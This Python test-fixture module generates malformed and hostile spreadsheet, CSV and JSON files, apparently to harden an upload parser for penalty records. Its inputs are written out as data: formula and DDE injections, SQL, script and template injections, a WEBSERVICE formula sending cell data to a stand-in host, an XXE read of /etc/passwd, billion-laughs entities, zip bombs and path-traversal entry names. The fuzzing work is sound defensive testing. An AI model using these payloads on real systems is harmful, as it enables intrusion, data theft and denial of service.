"""Files as nobody should send them: broken, crafted or merely unlucky, each with a name."""

from __future__ import annotations

import io
import json
import random
import re
import zipfile
from collections.abc import Callable, Iterator
from datetime import datetime

from openpyxl import Workbook
from openpyxl.utils.datetime import CALENDAR_MAC_1904

from tests.factories.penalties import HEADERS, SOUND, penalty_file

FORMULAS = (
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "＝cmd",
    '=HYPERLINK("x")',
)
STRANGE = (
    "𠮷野家㐀𫝀",  # four bytes in GB18030
    "海南\x00椰风",
    "海南\u202e司公‬风椰",
    "９１４６００００ＭＡ５Ｔ３Ｋ７Ｘ８Ｂ",
    "\ufeff\u200b\u2060",
    "\x01\x02\x1b[31m",
    "\ud7ff\ue000\uffff",
    "'; DROP TABLE foundation_record; --",
    "<script>alert(1)</script>{{ 7*7 }}{% debug %}",
    "%s%n{0}\\N\\t\\\\",
    "﷽" * 300,
    "e" + "\u0301" * 3000,
)
NO_XML = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")
FILLED = ("party_name", "document_number", "violation_type", "facts", "penalty_content", "decided_on", "fine_amount")


def files() -> Iterator[tuple[str, bytes]]:
    """Every crafted file."""
    yield from _cells()
    yield from _encodings()
    yield from _shapes()
    yield from _workbooks()
    yield from _packages()


def heavy() -> Iterator[tuple[str, Callable[[], bytes]]]:
    """Files that aim at memory; each made only when it is its turn."""
    yield "zip bomb of zeros", lambda: package({"xl/worksheets/sheet1.xml": b"\0" * (700 * 1024 * 1024)})
    yield "zip bomb of rows", lambda: package({"xl/worksheets/sheet1.xml": b"<row><c/></row>" * 40_000_000})
    yield "zip bomb of shared texts", lambda: package({"xl/sharedStrings.xml": b"<si><t>a</t></si>" * 30_000_000})
    yield "a cell in the last corner", lambda: sheet_with_corner("XFD1048576")
    yield "a workbook of 100,000 columns", lambda: workbook([[f"列{n}" for n in range(16_000)], ["1"] * 16_000])
    yield (
        "a file of 100,000 columns",
        lambda: ",".join([*HEADERS.values(), *(f"列{n}" for n in range(100_000))]).encode(),
    )
    yield "100,000 columns with rows", wide_file
    yield "a cell of 12 MB", lambda: penalty_file([{"facts": "违" * 4_000_000}, {}])
    yield "a line of 40 MB", lambda: penalty_file([{}]) + b"x" * (40 * 1024 * 1024) + b"\n"
    yield "a line of 300 MB", lambda: penalty_file([{}]) + b"x" * (300 * 1024 * 1024) + b"\n"
    yield (
        "a line of 40 MB in GB18030",
        lambda: penalty_file([{}])[3:].decode().encode("gb18030") + b"\xce\xa5" * 20_000_000,
    )
    yield "a JSON line of 40 MB", lambda: JSON_LINE + b'{"%s": "%s"}\n' % (NAME, b"y" * (40 * 1024 * 1024))
    yield "lines that are no JSON", lambda: JSON_LINE + b"[1]\n" * 2_000_000
    yield "one text in a million cells", lambda: same_text(1_000_000, 10_000)
    yield "workbook marks in single quotes", lambda: sheet_with_corner("XFD1048576", quote=b"'")
    yield "a sheet under another name", lambda: elsewhere(sheet_with_corner("XFD1048576"))
    yield "one text of 200 MB", lambda: same_text(10, 200_000_000)
    yield "ten million cells in one column", lambda: many_cells(10_000_000)
    yield "an open quote for 20 MB", lambda: penalty_file([{}]) + b'"' + b"x,y\n" * (5 * 1024 * 1024)
    yield "a million empty lines", lambda: penalty_file([{}]) + b"\n" * 1_000_000
    yield "200,000 bad lines", lambda: penalty_file([{}]) + b"a,b\n" * 200_000
    yield "lines with 50,000 keys", lambda: b"\n".join(b'{"k%d": 1, "%s": "x"}' % (n, NAME) for n in range(50_000))
    yield "deeply nested lines", lambda: b'{"%s": %s}' % (NAME, b"[" * 100_000 + b"]" * 100_000)


NAME = HEADERS["party_name"].encode()
JSON_LINE = json.dumps({name: SOUND[field] for field, name in HEADERS.items()}, ensure_ascii=False).encode() + b"\n"


def wide_file() -> bytes:
    head = [*HEADERS.values(), *(f"列{n}" for n in range(100_000))]
    row = [*(SOUND[field] for field in HEADERS), *["x"] * 100_000]
    return "\n".join([",".join(head), *[",".join(row)] * 20]).encode()


def _cells() -> Iterator[tuple[str, bytes]]:
    for number, text in enumerate((*FORMULAS, *STRANGE)):
        rows = [{field: text} for field in FILLED] + [{"document_number": f"{number}号"}]
        yield f"cells {number}", penalty_file(rows)
        yield f"workbook cells {number}", workbook([list(HEADERS.values()), *(cells(row) for row in rows)])


def _encodings() -> Iterator[tuple[str, bytes]]:
    text = penalty_file([{"facts": "𠮷㐀"}, {"document_number": "2号"}]).decode("utf-8-sig")
    for encoding in ("gb18030", "utf-16", "utf-16-le", "utf-32", "big5", "shift_jis", "euc_kr", "latin-1", "utf-7"):
        yield f"in {encoding}", text.encode(encoding, errors="replace")
    yield "half UTF-8, half GB18030", text.encode() + text.encode("gb18030")
    yield "cut within a character", text.encode()[:-2] + b"\xe6"
    yield "with NUL between", text.encode().replace(b",", b"\0,")


def _shapes() -> Iterator[tuple[str, bytes]]:
    sound = penalty_file([{}, {"document_number": "2号"}])
    yield "empty", b""
    yield "blanks", b" \n\t\n,,,\n"
    yield "one byte", b"x"
    yield "the header alone", penalty_file([])
    yield "one column", b"\n".join([NAME, b"x", b"y", b"z"])
    yield "one unknown column", b"a\n1\n2\n"
    yield "the header twice", sound + sound
    yield "every header the same", b",".join([NAME] * 15) + b"\n" + b",".join([b"x"] * 15)
    yield "no last line end", sound.rstrip()
    yield "old Macintosh line ends", sound.replace(b"\r\n", b"\r")
    yield "line ends of every kind", sound + b"a\rb\nc\r\nd\x0be\x0cf\x85g\n"
    yield "quotes everywhere", sound + b'"""""""\n""\n"a""b",c\n'
    yield "a list as JSON", b"[1, 2, 3]"
    yield "lines of every JSON type", b'{"%s": {"a": [1, null]}}\n1\nnull\n"x"\n[]\n{}\n{"%s": 1e999}\n' % (NAME, NAME)
    yield "lines with odd text", b'{"%s": "\\ud800"}\n{"%s": "\\u0000"}\n{broken\n' % (NAME, NAME)
    yield "a number too long", b'{"%s": %s}\n' % (NAME, b"9" * 5000)
    yield "a picture", b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 20
    yield "a page", b"<html><table><tr><td>" + NAME + b"</td></tr></table></html>"


def cells(changes: dict[str, str]) -> list[object]:
    return [{**SOUND, **changes}[field] for field in HEADERS]


def workbook(rows: list[list[object]], *, mac: bool = False) -> bytes:
    """A workbook with these cells as text; what openpyxl cannot write is left out."""
    book = Workbook()
    if mac:
        book.epoch = CALENDAR_MAC_1904
    sheet = book.active
    assert sheet is not None
    for number, row in enumerate(rows, start=1):
        for place, value in enumerate(row, start=1):
            cell = sheet.cell(number, place)
            try:
                cell.value = "?" if isinstance(value, str) and NO_XML.search(value) else value  # type: ignore[assignment]
                cell.data_type = "s" if isinstance(value, str) else cell.data_type
            except ValueError:
                cell.value = "?"
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _workbooks() -> Iterator[tuple[str, bytes]]:
    head: list[object] = list(HEADERS.values())
    day = datetime(2026, 11, 16)  # noqa: DTZ001 - a sheet knows no time zone
    yield "days since 1904", workbook([head, [*cells({})[:10], day, *cells({})[11:]]], mac=True)
    yield "numbers, truths and times", workbook([head, [1.5, True, day, 10**20, -0.0, day.time(), *cells({})[6:]]])
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(head)
    for number in range(6):
        sheet.append(cells({"document_number": f"{number}号"}))
    sheet.merge_cells("A2:A4")
    sheet.row_dimensions[5].hidden = True
    sheet.column_dimensions["C"].hidden = True
    sheet["D6"] = "=1+1"
    sheet["E6"] = '=WEBSERVICE("http://example.invalid/"&A1)'
    book.create_sheet("藏").sheet_state = "veryHidden"
    out = io.BytesIO()
    book.save(out)
    yield "merged, hidden, computed", out.getvalue()
    yield "a workbook cut in half", out.getvalue()[: len(out.getvalue()) // 2]
    yield "a workbook without its end", out.getvalue()[:-30]


def package(entries: dict[str, bytes]) -> bytes:
    """A package that looks like a workbook, with these entries in place of its own."""
    parts = dict(unpacked(workbook([list(HEADERS.values()), cells({})]))) | entries
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as book:
        for name, content in parts.items():
            book.writestr(name, content)
    return out.getvalue()


def unpacked(content: bytes) -> list[tuple[str, bytes]]:
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        return [(entry.filename, book.read(entry)) for entry in book.infolist()]


def sheet_with_corner(corner: str, quote: bytes = b'"') -> bytes:
    sheet = dict(unpacked(workbook([list(HEADERS.values())])))["xl/worksheets/sheet1.xml"]
    cell = f'<row r="{corner.lstrip("ABCDEFGHIJKLMNOPQRSTUVWXYZ")}"><c r="{corner}"><v>1</v></c></row></sheetData>'
    made = cell.encode().replace(b'"', quote)
    return package({"xl/worksheets/sheet1.xml": sheet.replace(b"</sheetData>", made)})


def _sheet_with_rows(rows: bytes) -> bytes:
    sheet = dict(unpacked(workbook([list(HEADERS.values())])))["xl/worksheets/sheet1.xml"]
    return sheet.replace(b"</sheetData>", rows + b"</sheetData>")


def same_text(cells: int, length: int) -> bytes:
    """A small package in which every cell refers to the same long text."""
    row = b"<row>" + b'<c t="s"><v>0</v></c>' * 10 + b"</row>"
    shared = b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>%s</t></si></sst>'
    return package(
        {
            "xl/worksheets/sheet1.xml": _sheet_with_rows(row * (cells // 10)),
            "xl/sharedStrings.xml": shared % (b"x" * length),
        }
    )


def elsewhere(book: bytes) -> bytes:
    """The same workbook with its sheet where none is looked for."""
    parts = dict(unpacked(book))
    parts["xl/media/x.xml"] = parts.pop("xl/worksheets/sheet1.xml")
    parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(
        b"worksheets/sheet1.xml", b"media/x.xml"
    )
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in parts.items():
            made.writestr(name, content)
    return out.getvalue()


def many_cells(number: int) -> bytes:
    """More cells than their marks tell: they bear no place."""
    return package({"xl/worksheets/sheet1.xml": _sheet_with_rows(b"<row><c><v>1</v></c></row>" * number)})


def _packages() -> Iterator[tuple[str, bytes]]:
    sheet = dict(unpacked(workbook([list(HEADERS.values()), cells({})])))["xl/worksheets/sheet1.xml"]
    laughs = b'<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]>'
    outside = b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
    yield "an empty package", package({}) and b"PK\x05\x06" + b"\0" * 18
    yield "no sheet in the package", package({"xl/worksheets/sheet1.xml": b""})
    yield "a sheet that is no XML", package({"xl/worksheets/sheet1.xml": b"<worksheet><sheetData><row"})
    yield "laughs", package({"xl/worksheets/sheet1.xml": sheet.replace(b"<worksheet", laughs + b"<worksheet", 1)})
    yield "a file from outside", package({"xl/worksheets/sheet1.xml": outside + sheet})
    yield "shared texts that are not there", package({"xl/sharedStrings.xml": b"<sst/>"})
    yield "names that climb", package({"../../etc/x": b"x", "/abs": b"x"})
    yield "too many entries", package({f"x/{number}": b"" for number in range(3000)})
    yield (
        "a row number beyond all",
        package({"xl/worksheets/sheet1.xml": sheet.replace(b'<row r="2"', b'<row r="99999999999999999999"')}),
    )


def mangled(content: bytes, chance: random.Random) -> bytes:
    """The same bytes after a few accidents: flipped, cut, doubled, moved, filled in."""
    found = bytearray(content)
    for _ in range(chance.randint(1, 6)):
        if not found:
            break
        place = chance.randrange(len(found))
        match chance.randrange(6):
            case 0:
                found[place] = chance.randrange(256)
            case 1:
                del found[place : place + chance.randint(1, 200)]
            case 2:
                found[place:place] = found[max(0, place - chance.randint(1, 300)) : place]
            case 3:
                found[place:place] = chance.choice((*FORMULAS, *STRANGE)).encode("utf-8", "surrogatepass")
            case 4:
                found[place:place] = chance.choice((b'"', b",", b"\n", b"\r", b"\t", b"\0", b"\xff", b"\xe4\xb8"))
            case _:
                del found[place:]
    return bytes(found)


def accidents(chance: random.Random) -> Iterator[bytes]:
    """Sound files after accidents, without end; of workbooks both the package and the XML within suffer."""
    rows = [{"document_number": f"{number}号", "facts": chance.choice(STRANGE)} for number in range(12)]
    plain = penalty_file(rows)
    book = workbook([list(HEADERS.values()), *(cells(row) for row in rows)])
    while True:
        yield mangled(plain, chance)
        yield mangled(plain.decode("utf-8-sig").encode("gb18030", "replace"), chance)
        yield mangled(book, chance)
        name, content = chance.choice([part for part in unpacked(book) if part[0].startswith("xl/")])
        yield package({name: mangled(content, chance)})
